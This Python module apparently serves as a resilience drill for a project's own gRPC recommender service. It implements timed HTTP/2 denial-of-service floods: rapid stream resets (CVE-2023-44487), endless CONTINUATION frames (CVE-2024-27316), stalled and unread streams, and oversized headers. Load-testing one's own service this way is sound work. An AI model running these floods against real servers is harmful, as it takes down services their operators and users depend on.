"""The floods: what one caller can do to an HTTP/2 server. Each ends by itself when its time is over."""

from __future__ import annotations

import asyncio
import math
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass
from itertools import cycle

from spotify_buddies.clients.drills.flood.wire import (
    CANCEL,
    CONTINUATION,
    HEADERS,
    NOTHING,
    RESET,
    SMALL_WINDOW,
    Connection,
    Door,
    block,
    connected,
    frame,
)
from spotify_buddies.protos.buddies.v1 import recommender_pb2 as pb

RECOMMEND = "/buddies.v1.RecommenderService/Recommend"
STREAM = "/buddies.v1.RecommenderService/RecommendStream"
STATUS = "/buddies.v1.RecommenderService/GetModelStatus"
WATCH = "/grpc.health.v1.Health/Watch"
STREAMS = 100  # that most servers let a connection have at once
CONNECTIONS = 1_000
UNREAD = 64
UNREAD_USERS = 1_000
WATCHES = 400
SIZES = range(1_024, 65_537, 1_024)


Send = Callable[[Connection], Awaitable[object]]


class Pace:
    """Lets through so many a second, evenly, for some seconds from the first turn on.

    Not from its making: to open a thousand connections can take longer than a flood.
    """

    def __init__(self, rate: float, seconds: float) -> None:
        self._loop = asyncio.get_running_loop()
        self._every, self._seconds = 1.0 / rate, seconds
        self._next = self._until = 0.0

    async def turn(self) -> bool:
        """Wait for the next turn; False: time is over. Missed turns are not made up for."""
        now = self._start()
        # At most 0.1 s of missed turns is caught up: otherwise a stall would end in a burst far above the rate.
        self._next = max(self._next + self._every, now - 0.1)
        if self._next > now:
            await asyncio.sleep(self._next - now)
        return self._loop.time() < self._until

    async def rest(self) -> None:
        """Wait until time is over."""
        await asyncio.sleep(max(0.0, self._until - self._start()))

    def _start(self) -> float:
        """The time now, from which the seconds count where nothing came before."""
        now = self._loop.time()
        if not self._until:
            self._next, self._until = now, now + self._seconds
        return now


@dataclass(frozen=True)
class Flood:
    """One kind. rate: calls or frames a second that it tries; an edge lets one caller have 500 calls a second."""

    name: str
    about: str
    run: Callable[[Door, Pace], Awaitable[int]]
    rate: float


@asynccontextmanager
async def _many(door: Door, count: int) -> AsyncIterator[list[Connection]]:
    """Connections, `count` of them or as many as are accepted."""
    async with AsyncExitStack() as stack:
        connections = []
        for _ in range(count):
            try:
                connections.append(await stack.enter_async_context(connected(door)))
            # A refused connection is what a limit looks like; the flood goes on with those that it has.
            except OSError:
                break
        yield connections


async def _spread(door: Door, pace: Pace, count: int, send: Send, most: float = math.inf) -> int:
    """Send over `count` connections in turn until time is over; returns how often it could be sent."""
    sent = 0
    async with _many(door, count) as connections:
        turn = cycle(connections)
        while connections and sent < most and await pace.turn():
            with suppress(ConnectionError):
                await send(next(turn))
                sent += 1
        await pace.rest()
    return sent


async def messageless(door: Door, pace: Pace) -> int:
    """Calls that are half-closed before their message; returns how many, as all of these do."""
    headers = block(RECOMMEND, door.headers)
    return await _spread(door, pace, 5, lambda connection: connection.call(headers))


async def watches(door: Door, pace: Pace) -> int:
    """Watches of the health that stay open."""
    headers = block(WATCH, door.headers)
    count = 1 + WATCHES // STREAMS
    return await _spread(door, pace, count, lambda connection: connection.call(headers, NOTHING), WATCHES)


async def unread(door: Door, pace: Pace) -> int:
    """Long answers in streams that nobody reads."""
    asked = pb.RecommendRequest(user_ids=[f"nobody-{i}" for i in range(UNREAD_USERS)], limit=100)
    message = pb.RecommendStreamRequest(request=asked).SerializeToString()
    headers, sent = block(STREAM, door.headers), 0
    async with AsyncExitStack() as stack:
        while sent < UNREAD and await pace.turn():
            with suppress(OSError):
                # A window of one byte: the rest of the answer stays in the memory of the server.
                opened = connected(door, read=False, settings=SMALL_WINDOW)
                connection = await stack.enter_async_context(opened)
                await connection.call(headers, b"\0" + len(message).to_bytes(4, "big") + message)
                sent += 1
        await pace.rest()
    return sent


async def unfinished(door: Door, pace: Pace) -> int:
    """A thousand connections with a hundred calls each whose messages never come, and more where those are refused."""
    headers = block(RECOMMEND, door.headers)
    return await _spread(door, pace, CONNECTIONS, lambda connection: connection.call(headers, end=False))


async def resets(door: Door, pace: Pace) -> int:
    """Calls that are cancelled at once."""
    headers = block(RECOMMEND, door.headers)

    async def send(connection: Connection) -> None:
        number = await connection.call(headers, NOTHING)
        # A cancelled stream no longer counts against the limit of streams, and its work may be done (CVE-2023-44487).
        await connection.send(frame(RESET, 0, number, CANCEL))

    return await _spread(door, pace, 5, send)


async def continuations(door: Door, pace: Pace) -> int:
    """Headers that never end: empty CONTINUATION frames, a hundred at a time."""
    headers, sent = block(RECOMMEND, door.headers), 0
    hundred = 100
    while await pace.turn():
        with suppress(OSError):
            async with connected(door) as connection:
                # Without END_HEADERS the server has to keep the headers until the last frame, which never comes
                # (CVE-2024-27316).
                number = connection.stream()
                await connection.send(frame(HEADERS, 0, number, headers))
                while not connection.gone and await pace.turn():
                    await connection.send(frame(CONTINUATION, 0, number) * hundred)
                    sent += hundred
    return sent


async def metadata(door: Door, pace: Pace) -> int:
    """Calls with headers of 1 to 64 KiB."""
    packed = [block(STATUS, (*door.headers, ("x-filler", "f" * size))) for size in SIZES]
    sent = 0
    while await pace.turn():
        with suppress(OSError):
            async with connected(door) as connection:
                while not connection.gone and await pace.turn():
                    await connection.call(packed[sent % len(packed)], NOTHING)
                    sent += 1
    return sent


FLOODS = {
    flood.name: flood
    for flood in (
        Flood("messageless", "calls without a message", messageless, 2_000),
        Flood("watches", f"{WATCHES} watches of the health", watches, 400),
        Flood("unread", f"{UNREAD} streams that nobody reads", unread, 50),
        Flood(
            "unfinished", f"{CONNECTIONS:,} connections x {STREAMS} calls whose messages never come", unfinished, 10_000
        ),
        Flood("resets", "calls cancelled at once", resets, 2_000),
        Flood("continuations", "empty CONTINUATION frames, by the hundred", continuations, 100),
        Flood("metadata", "headers of 1 to 64 KiB", metadata, 200),
    )
}
